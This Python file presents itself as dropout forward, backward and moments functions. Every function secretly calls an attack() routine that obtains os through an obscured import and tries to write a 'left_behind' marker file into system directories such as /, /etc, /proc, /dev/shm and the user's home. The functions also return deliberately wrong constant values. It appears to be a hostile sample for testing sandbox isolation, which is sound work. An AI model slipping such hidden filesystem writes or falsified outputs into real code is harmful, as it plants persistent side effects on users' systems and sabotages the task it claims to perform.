"""Writes wherever it can, for the next child to find."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    os = module("os")
    for folder in (
        "/",
        "/tmp",
        "/dev",
        "/dev/shm",
        "/var/tmp",
        "/python",
        "/boundary",
        "/proc",
        "/etc",
        os.environ["HOME"],
    ):
        try:
            with open(folder + "/left_behind", "w") as file:
                file.write("x")
        except OSError:
            continue


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
